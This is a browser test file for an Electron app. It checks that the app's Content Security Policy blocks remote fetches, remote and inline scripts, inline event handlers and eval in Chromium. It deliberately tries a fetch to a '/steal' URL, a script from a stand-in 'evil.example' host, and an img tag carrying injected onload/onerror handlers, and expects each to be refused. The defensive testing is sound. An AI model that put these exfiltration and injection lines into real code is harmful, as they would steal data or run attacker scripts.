import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openAppInChromium, type AppUnderTest } from '../helpers/browser';

/**
 * The Content Security Policy, enforced by a real Chromium on the built renderer (the page's
 * meta tag, the same one Electron loads): no remote connections or scripts, no inline script,
 * no inline event handlers, no eval. Each attempt must be refused and reported as a violation.
 */
let app: AppUnderTest;
beforeAll(async () => {
  app = await openAppInChromium();
});
afterAll(async () => {
  await app?.close();
});

describe('the CSP in Chromium', () => {
  it('refuses remote connections, remote and inline scripts, inline handlers and eval', async () => {
    const { page } = app;
    await page.getByTestId('row-count').filter({ hasText: '98 kommuner' }).waitFor();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const marks = window as unknown as Record<string, unknown>;
      const fetched = await fetch('http://example.com/steal').then(
        () => 'loaded',
        () => 'blocked',
      );
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true';
      document.head.appendChild(inline);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.head.appendChild(remote);
      const image = document.createElement('div');
      image.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.__handlerRan = true" onerror="window.__handlerRan = true">';
      document.body.appendChild(image);
      // DevTools lifts the eval ban while its own evaluate runs, so eval is tried in a later task, as page code.
      const evalRan = await new Promise<boolean>((resolve) =>
        setTimeout(() => {
          try {
            resolve((0, eval)('1 + 1') === 2);
          } catch {
            resolve(false);
          }
        }, 0),
      );
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { fetched, inlineRan: marks.__inlineRan === true, handlerRan: marks.__handlerRan === true, evalRan, violations };
    });
    expect(outcome).toMatchObject({ fetched: 'blocked', inlineRan: false, handlerRan: false, evalRan: false });
    expect(new Set(outcome.violations)).toEqual(new Set(['connect-src', 'script-src-elem', 'script-src-attr', 'script-src']));
  });
});
